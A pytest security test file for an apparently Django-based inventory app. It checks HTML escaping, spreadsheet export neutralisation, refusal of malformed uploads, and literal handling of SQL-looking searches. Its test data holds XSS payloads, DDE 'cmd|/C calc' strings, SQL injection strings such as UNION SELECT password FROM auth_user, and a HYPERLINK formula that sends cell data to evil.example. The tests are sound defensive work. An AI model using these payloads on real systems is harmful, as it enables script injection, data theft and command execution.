"""Hostile input: HTML in every free-text field is shown escaped on every page that shows it;
spreadsheet exports neutralise formulas; oversized, binary and wrongly encoded uploads are
refused with a message that says what to do; SQL-looking and LIKE-wildcard searches are harmless.

One set of hostile records (the "world") is made through the services, each free-text field with
a tagged payload, so a page that shows a field unescaped is caught and named."""

import csv
import io
import json
import re
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import load_workbook

from shopflow.catalog.models import Sku
from shopflow.catalog.services import sku_create
from shopflow.core import services
from shopflow.core.imports import human_size
from shopflow.core.masterdata import master_lists
from shopflow.core.models import ImportJob
from shopflow.core.registry import document_types
from shopflow.core.tokens import api_token_create
from shopflow.inventory.models import Warehouse, WarehouseKind
from shopflow.inventory.services import MoveSpec, stock_post
from shopflow.partners.models import Supplier
from shopflow.partners.services import customer_create, subcontractor_create
from tests.factories import UserFactory, make_purchase_order
from tests.imports.conftest import SKU_HEADERS, csv_bytes


def xss(tag: str) -> str:
    """A payload that runs script if shown raw, in element content or in an attribute."""
    return f'<script>x("{tag}")</script>"><img src=x onerror=y("{tag}")>'


PLANNER_XSS = '"><svg onload=x("PLN")>'  # the planner's number holds 32 characters at most
RAW = ("<script>x(", "<img src=x", "<svg onload")  # any of these in a page: a hole


def escaped(tag: str) -> str:
    return f"&lt;script&gt;x(&quot;{tag}&quot;)&lt;/script&gt;"


# ---------------------------------------------------------------- the world


@pytest.fixture
def world(db):
    boss = UserFactory(username="boss", roles=["manager"])
    approver = UserFactory(username="approver", roles=["manager"])
    supplier = Supplier.objects.create(code="SUP-X", name=xss("SUP"))
    warehouse = Warehouse.objects.create(code="WH-X", name=xss("WH"))
    raw = Warehouse.objects.create(code="YL-X", name="原料仓", kind=WarehouseKind.RAW)
    sku = sku_create(actor=boss, code="SKU-X", name=xss("SKU"), colour="黑色", size="M", cost=Decimal("10"))
    fabric = sku_create(actor=boss, code="ML-X", name="汗布", unit="米", cost=Decimal("18"))
    customer = customer_create(actor=boss, code="CUS-X", name=xss("CUS"), address=xss("ADR"))
    factory = subcontractor_create(actor=boss, code="SUB-X", name=xss("SUB"), address=xss("SAD"))

    po = make_purchase_order(actor=boss, supplier=supplier, warehouse=warehouse,
                             lines=[(sku, Decimal("10"), Decimal("12.50"))], remarks=xss("PO"))
    services.document_transition(po, "submit", actor=boss)
    po = services.document_transition(po, "approve", actor=approver)
    receipt = services.document_push_down(source=po, target_type="purchasing.purchasereceipt", actor=boss,
                                          quantities={po.lines.get().pk: Decimal("10")})
    services.document_transition(receipt, "submit", actor=boss)
    services.document_transition(receipt, "approve", actor=approver)
    services.document_change(doc=receipt, actor=boss, reason=xss("WHY"), header={"remarks": xss("GRN")})
    draft = make_purchase_order(actor=boss, supplier=supplier, warehouse=warehouse,
                                lines=[(sku, Decimal("1"), Decimal("1"))], remarks=xss("DRAFT"))

    stock_post(moves=[MoveSpec(sku_id=fabric.pk, warehouse_id=raw.pk, quantity=Decimal(50), unit_cost=Decimal(18))],
               origin_type="test.opening", origin_id=1, actor=None)
    order = services.document_create(doc_type="subcontracting.subcontractorder", actor=boss, header={
        "subcontractor": factory.pk, "material_warehouse": raw.pk, "receipt_warehouse": warehouse.pk,
        "planner_number": PLANNER_XSS, "remarks": xss("SCO"),
    }, lines=[{"sku": sku.pk, "quantity": "5", "unit_fee": "6.50"}])
    _token, _key = api_token_create(user=boss, name=xss("TOK")[:100])

    class World:
        pass

    w = World()
    w.boss, w.supplier, w.warehouse, w.sku, w.customer, w.factory = boss, supplier, warehouse, sku, customer, factory
    w.po, w.receipt, w.draft, w.order = po, receipt, draft, order
    client = Client()
    client.force_login(boss)
    w.client = client
    return w



# ---------------------------------------------------------------- XSS: every page that shows the text

# Pages by area: (address, the tagged fields it must show, escaped). Every page is also checked
# for any raw payload at all, so a page that shows more than listed here is still covered.
PAGES = {
    "home": [("/", {"DRAFT", "GRN", "SCO"}), ("/account/tokens/", {"TOK"})],
    "document lists": [
        *[(f"/d/{slug}/", set()) for slug in sorted(t.slug for t in document_types())],
        ("/d/purchasing-purchaseorder/", {"PO", "DRAFT", "SUP", "WH"}),
        ("/d/purchasing-purchasereceipt/", {"GRN", "SUP", "WH"}),
        ("/d/subcontracting-subcontractorder/", {"SCO", "SUB", "PLN"}),
    ],
    "document pages": [
        ("/d/purchasing-purchaseorder/{po}/", {"PO", "SKU", "SUP", "WH"}),
        ("/d/purchasing-purchaseorder/{draft}/edit/", {"DRAFT", "SKU", "SUP", "WH"}),
        ("/d/purchasing-purchasereceipt/{receipt}/", {"GRN", "WHY", "SKU", "SUP", "WH"}),
        ("/d/subcontracting-subcontractorder/{order}/", {"SCO", "SKU", "SUB", "WH", "PLN"}),
        ("/d/subcontracting-subcontractorder/{order}/edit/", {"SCO", "SKU", "SUB", "PLN"}),
    ],
    "master data": [
        *[(f"/m/{ml.key}/", set()) for ml in master_lists()],
        ("/m/skus/", {"SKU"}), ("/m/suppliers/", {"SUP"}), ("/m/customers/", {"CUS"}),
        ("/m/subcontractors/", {"SUB"}), ("/m/warehouses/", {"WH"}),
        ("/m/skus/{sku}/", {"SKU"}), ("/m/customers/{customer}/", {"CUS", "ADR"}),
        ("/m/suppliers/{supplier}/", {"SUP"}), ("/m/subcontractors/{factory}/", {"SUB", "SAD"}),
        ("/m/warehouses/{warehouse}/", {"WH"}),
        ("/catalog/sku-search/?q=SKU-X", {"SKU"}),
    ],
    "reports": [
        ("/inventory/stock/", {"SKU", "WH"}), ("/inventory/valuation/", {"SKU", "WH"}),
        ("/inventory/low-stock/", {"WH"}), ("/inventory/slow-moving/", {"WH"}),
        ("/inventory/stocktake/new/", {"WH"}),
        ("/purchasing/suppliers/", {"SUP"}), ("/purchasing/suppliers/{supplier}/", {"SUP", "GRN"}),
        ("/purchasing/exchanges/", {"SUP"}),
        ("/subcontracting/orders/{order}/reconciliation/", {"SKU", "SUB", "PLN"}),
        ("/subcontracting/tooling/", {"SUB"}), ("/subcontracting/fees/", set()),
    ],
}


def shown_tags(page: str) -> set[str]:
    tags = set(re.findall(r"&lt;script&gt;x\(&quot;(\w+)&quot;\)&lt;/script&gt;", page))
    return tags | ({"PLN"} if "&quot;&gt;&lt;svg onload=x(&quot;PLN&quot;)&gt;" in page else set())


@pytest.mark.parametrize("area", sorted(PAGES))
def test_hostile_text_is_escaped_on_every_page(world, area):
    ids = {"po": world.po.pk, "draft": world.draft.pk, "receipt": world.receipt.pk, "order": world.order.pk,
           "sku": world.sku.pk, "customer": world.customer.pk, "supplier": world.supplier.pk,
           "factory": world.factory.pk, "warehouse": world.warehouse.pk}
    problems = []
    for template, expected in PAGES[area]:
        url = template.format(**ids)
        for headers in ({}, {"HX-Request": "true"}):  # the whole page, and the HTMX partial where there is one
            response = world.client.get(url, headers=headers)
            if response.status_code != 200:
                problems.append(f"{url}: status {response.status_code}")
                continue
            page = response.content.decode()
            raw = [marker for marker in RAW if marker in page]
            if raw:
                problems.append(f"{url}{' (htmx)' if headers else ''}: unescaped {raw}")
            if not headers and not expected <= shown_tags(page):
                problems.append(f"{url}: does not show {sorted(expected - shown_tags(page))}")
    assert not problems, "\n".join(problems)


def test_search_terms_are_echoed_escaped(world):
    for url in ("/d/purchasing-purchaseorder/", "/m/skus/", "/catalog/sku-search/", "/inventory/stock/"):
        page = world.client.get(url, {"q": xss("Q")}).content.decode()
        assert not [marker for marker in RAW if marker in page], url


@pytest.mark.parametrize("url", ["/purchasing/orders/{po}/order.pdf", "/subcontracting/orders/{order}/order.pdf"])
def test_printed_documents_survive_hostile_text(world, url):
    """ReportLab paragraphs read a little markup: hostile text must neither break nor steer them."""
    response = world.client.get(url.format(po=world.po.pk, order=world.order.pk))
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert body.startswith(b"%PDF")


# ---------------------------------------------------------------- formula injection in exports

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = {  # field → text that a spreadsheet would run as a formula
    "sku": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "supplier": "+1+cmd|' /C calc'!A0",
    "warehouse": "-2+3",
    "remarks": "@SUM(1+1)*cmd|' /C calc'!A0",
    "customer": "=1+1",
    "colour": "\t=1+1",
}


@pytest.fixture
def formulas(db):
    boss = UserFactory(username="boss", roles=["manager"])
    approver = UserFactory(username="approver", roles=["manager"])
    supplier = Supplier.objects.create(code="SUP-F", name=FORMULAS["supplier"])
    warehouse = Warehouse.objects.create(code="WH-F", name=FORMULAS["warehouse"])
    sku = sku_create(actor=boss, code="SKU-F", name=FORMULAS["sku"], colour=FORMULAS["colour"], cost=Decimal("10"))
    customer_create(actor=boss, code="CUS-F", name=FORMULAS["customer"], address="上海市浦东新区=1+1号")
    po = make_purchase_order(actor=boss, supplier=supplier, warehouse=warehouse,
                             lines=[(sku, Decimal("10"), Decimal("12.50"))], remarks=FORMULAS["remarks"])
    services.document_transition(po, "submit", actor=boss)
    services.document_transition(po, "approve", actor=approver)
    receipt = services.document_push_down(source=po, target_type="purchasing.purchasereceipt", actor=boss)
    services.document_transition(receipt, "submit", actor=boss)
    services.document_transition(receipt, "approve", actor=approver)
    services.document_change(doc=receipt, actor=boss, reason="供应商要求", header={"remarks": FORMULAS["remarks"]})
    from shopflow.inventory.services import stocktake_create

    stocktake = stocktake_create(warehouse_id=warehouse.pk, actor=boss)
    from shopflow.core.imports import import_job_create
    from shopflow.core.masterdata import get_list

    bad = csv_bytes([SKU_HEADERS, ["=cmd|' /C calc'!A0", "x", "", "", "", "", "+1", "@1"]])
    job = import_job_create(master_list=get_list("skus"), content=bad, filename="=evil.csv", actor=boss)
    assert job.errors, "the import job needs errors for its error report"
    from shopflow.channels.models import Shop
    from shopflow.channels.tasks import order_import_job_create

    # A generic order sheet without its required columns: each problem names the file, a formula.
    shop = Shop.objects.create(code="TB-F", name="店", auto_review=False)
    order_job = order_import_job_create(shop=shop, format_key="generic", actor=boss,
                                        files=[(FORMULAS["customer"], "备注\r\n=1+1\r\n".encode())])
    assert order_job.errors, "the order import job needs problems for its download"
    client = Client()
    client.force_login(boss)
    return {"client": client, "supplier": supplier.pk, "stocktake": stocktake.pk, "job": job.pk,
            "order_job": order_job.pk}


def export_routes() -> dict[str, str]:
    """name → route of every spreadsheet download in the URL conf."""
    out = {}

    def walk(patterns, prefix=""):
        for p in patterns:
            if isinstance(p, URLResolver):
                walk(p.url_patterns, prefix + str(p.pattern))
            elif isinstance(p, URLPattern) and str(p.pattern).endswith((".xlsx", ".csv")):
                out[p.name] = prefix + str(p.pattern)

    walk(get_resolver().url_patterns)
    return out


def export_urls(ids: dict) -> dict[str, list[str]]:
    """Addresses of each export, for every list and document type there is."""
    return {
        "doc_export": [f"/d/{t.slug}/export.xlsx" for t in document_types()],
        "md_export_xlsx": [f"/m/{ml.key}/export.xlsx" for ml in master_lists()],
        "md_export_csv": [f"/m/{ml.key}/export.csv" for ml in master_lists()],
        "md_template": [f"/m/{ml.key}/template.xlsx" for ml in master_lists()],
        "md_job_errors": [f"/m/skus/import/{ids['job']}/errors.xlsx"],
        "order_import_job_problems": [f"/orders/import/{ids['order_job']}/problems.xlsx"],
        "inv_stock_export": ["/inventory/stock/export.xlsx"],
        "inv_valuation_export": ["/inventory/valuation/export.xlsx"],
        "inv_low_stock_export": ["/inventory/low-stock/export.xlsx"],
        "inv_slow_moving_export": ["/inventory/slow-moving/export.xlsx"],
        "inv_stocktake_variance_export": [f"/inventory/stocktake/{ids['stocktake']}/variance/export.xlsx"],
        "purchasing_statement_xlsx": [f"/purchasing/suppliers/{ids['supplier']}/statement.xlsx"],
    }


def test_every_export_in_the_url_conf_is_checked():
    known = set(export_urls({"job": 1, "order_job": 1, "stocktake": 1, "supplier": 1}))
    assert set(export_routes()) <= known, f"new exports to add to export_urls(): {set(export_routes()) - known}"


def cells(response) -> list:
    """Every cell of the download: strings as written, formulas as openpyxl sees them."""
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if response["Content-Type"].startswith("text/csv"):
        text = body.decode("utf-8-sig")
        return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    workbook = load_workbook(io.BytesIO(body))  # not data_only: a formula stays a formula
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def test_exports_neutralise_formulas(formulas):
    client = formulas["client"]
    problems, neutralised = [], set()
    for name, urls in export_urls(formulas).items():
        for url in urls:
            response = client.get(url)
            if response.status_code != 200:
                problems.append(f"{url}: status {response.status_code}")
                continue
            for cell in cells(response):
                value = cell if isinstance(cell, str) else cell.value
                if not isinstance(cell, str) and cell.data_type == "f":
                    problems.append(f"{url}: formula cell {cell.coordinate} {value!r}")
                elif isinstance(value, str) and value.startswith(TRIGGERS):
                    problems.append(f"{url}: {value!r} would run as a formula")
                elif isinstance(value, str) and value.startswith("'") and value[1:] in (*FORMULAS.values(),
                                                                                           "=cmd|' /C calc'!A0"):
                    neutralised.add(name)
    assert not problems, "\n".join(problems)
    # The hostile values really were in the downloads (as text, behind a leading apostrophe).
    assert neutralised >= {"doc_export", "md_export_xlsx", "md_export_csv", "md_job_errors",
                           "order_import_job_problems", "inv_stock_export",
                           "inv_valuation_export", "inv_stocktake_variance_export", "purchasing_statement_xlsx"}


# ---------------------------------------------------------------- uploads

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4
GARBAGE = bytes((i * 7919) % 256 for i in range(4096))
HOSTILE_FILES = {
    # name: (file name, content, words of the message (English), code)
    "binary garbage": ("skus.csv", GARBAGE, "UTF-8 or GBK", {"binary", "unreadable"}),
    "a picture": ("skus.csv", PNG, "UTF-8 or GBK", {"binary", "unreadable"}),
    "text with NULs": ("skus.csv", "商家编码,名称\r\n".encode() + b"A-1,\x00\x00\x00\x01\x02" * 20, "binary data",
                       {"binary"}),
    "old xls": ("skus.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, ".xls", {"xls"}),
    "a zip that is no workbook": ("skus.xlsx", b"PK\x03\x04" + b"\x00" * 300, ".xlsx", {"bad_xlsx"}),
    "Big5": ("skus.csv", "商家編碼,名稱,顏色\r\nTW-001,純棉圓領T恤,黑色\r\nTW-002,連帽衛衣,燕麥色\r\n".encode("big5"),
             "Big5 / Traditional Chinese", {"wrong_encoding"}),
    "Latin-1": ("skus.csv", "Item code,Name,Colour\r\nFR-001,Pull côtelé,Écru\r\nFR-002,Café crème,Noir\r\n"
                .encode("latin-1"), "UTF-8", {"wrong_encoding", "unreadable"}),
    "Windows-1252": ("skus.csv", "Item code,Name\r\nDE-001,Größe Mütze\r\n".encode("cp1252"), "Western encoding",
                     {"wrong_encoding"}),
    "Shift-JIS": ("skus.csv", "Item code,Name\r\nJP-001,綿のTシャツ\r\n".encode("shift_jis"), "garbled",
                  {"wrong_encoding"}),
}


@pytest.mark.parametrize("kind", sorted(HOSTILE_FILES))
def test_bad_files_are_refused_with_a_clear_message(manager, kind):
    filename, content, words, codes = HOSTILE_FILES[kind]
    client = Client(headers={"Accept-Language": "en"})
    client.force_login(manager)
    response = client.post("/m/skus/import/", {"file": io_file(filename, content), "mode": "all"}, follow=True)
    assert response.status_code == 200
    job = ImportJob.objects.get()
    assert job.status == "done" and job.summary["file_error"] and not job.summary["written"]
    assert {e["code"] for e in job.errors} <= codes, job.errors
    assert words in response.content.decode(), "the page says what is wrong"

    _token, key = api_token_create(user=manager, name="t")
    api = Client(headers={"Authorization": f"Bearer {key}", "Accept-Language": "en"})
    answer = api.post("/api/v1/masterdata/skus/imports", {"file": io_file(filename, content)})
    assert answer.status_code == 201
    assert {e["code"] for e in answer.json()["errors"]} <= codes and answer.json()["summary"]["written"] is False
    assert not Sku.objects.exists()


def test_oversized_uploads_are_refused_before_reading(manager, settings):
    settings.SHOPFLOW = {"IMPORT_MAX_BYTES": 2048}
    content = csv_bytes([SKU_HEADERS] + [[f"BIG-{i}", "大文件", "", "", "", "", "1", "1"] for i in range(200)])
    assert len(content) > 2048
    client = Client(headers={"Accept-Language": "en"})
    client.force_login(manager)
    response = client.post("/m/skus/import/", {"file": io_file("big.csv", content), "mode": "all"})
    assert response.status_code == 400
    assert f"The file is {human_size(len(content))}; files up to 2 KB can be imported" in response.content.decode()

    _token, key = api_token_create(user=manager, name="t")
    answer = Client(headers={"Authorization": f"Bearer {key}"}).post("/api/v1/masterdata/skus/imports",
                                                                     {"file": io_file("big.csv", content)})
    assert answer.status_code == 400 and answer.json()["errors"][0]["code"] == "too_large"
    assert not ImportJob.objects.exists() and not Sku.objects.exists()


def io_file(name: str, content: bytes):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile(name, content)


# ---------------------------------------------------------------- SQL-looking searches

SQLISH = ["' OR '1'='1", "1; DROP TABLE catalog_sku; --", "\" OR \"\"=\"", "%", "_", "%%' --", "\\", "[a-z]*",
          "x' UNION SELECT password FROM auth_user --", "０＝０"]


@pytest.mark.parametrize("term", SQLISH)
def test_sql_looking_searches_are_plain_text(world, term):
    """Searched as text: nothing matches (no record holds these), no error, and the wildcards
    % and _ of LIKE are literal characters, not "anything"."""
    client = world.client
    # Each list's results (the HTMX block where the page has one), and what must not be in them.
    for url, absent in (("/m/skus/", "SKU-X"), ("/m/suppliers/", "SUP-X"), ("/catalog/sku-search/", "SKU-X"),
                        ("/d/purchasing-purchaseorder/", world.po.display_number), ("/inventory/stock/", "SKU-X"),
                        ("/purchasing/suppliers/", "SUP-X")):
        response = client.get(url, {"q": term}, headers={"HX-Request": "true"})
        assert response.status_code == 200, url
        assert absent not in response.content.decode(), (url, term)
        control = client.get(url, {"q": "X"}, headers={"HX-Request": "true"})  # a real search finds it
        assert absent in control.content.decode(), (url, "control")
    _token, key = api_token_create(user=world.boss, name="t")
    api = Client(headers={"Authorization": f"Bearer {key}"})
    for url in ("/api/v1/masterdata/skus", "/api/v1/documents/purchasing-purchaseorder"):
        response = api.get(url, {"search": term})
        assert response.status_code == 200, (url, response.content)
        assert response.json()["count"] == 0, (url, term)
    assert api.get("/api/v1/purchasing/suppliers", {"search": term}).json() == []
    assert Sku.objects.filter(code="SKU-X").exists() and Supplier.objects.count() == 1


def test_a_nul_character_is_refused_not_a_server_error(world):
    """PostgreSQL refuses text with NUL in it: a search or form value with one is a 400 that
    says so, on SQLite and PostgreSQL alike, never a 500."""
    client = world.client
    for url in ("/m/skus/", "/d/purchasing-purchaseorder/", "/catalog/sku-search/", "/inventory/stock/",
                "/purchasing/suppliers/"):
        response = client.get(url, {"q": "a\x00b"}, headers={"Accept-Language": "en"})
        assert response.status_code == 400, url
        assert "NUL character" in response.content.decode()
    response = client.post("/m/suppliers/new/", {"code": "NUL-1", "name": "a\x00b"})
    assert response.status_code == 400 and not Supplier.objects.filter(code="NUL-1").exists()

    _token, key = api_token_create(user=world.boss, name="t")
    api = Client(headers={"Authorization": f"Bearer {key}"})
    for url in ("/api/v1/masterdata/skus", "/api/v1/documents/purchasing-purchaseorder",
                "/api/v1/purchasing/suppliers"):
        response = api.get(url, {"search": "a\x00b"})
        assert response.status_code == 400 and response.json()["code"] == "invalid_text", url
    response = api.post("/api/v1/masterdata/suppliers", json.dumps({"values": {"code": "NUL-2", "name": "a\u0000b"}}),
                        content_type="application/json")
    assert response.status_code == 400, response.content
    assert not Supplier.objects.filter(code="NUL-2").exists()
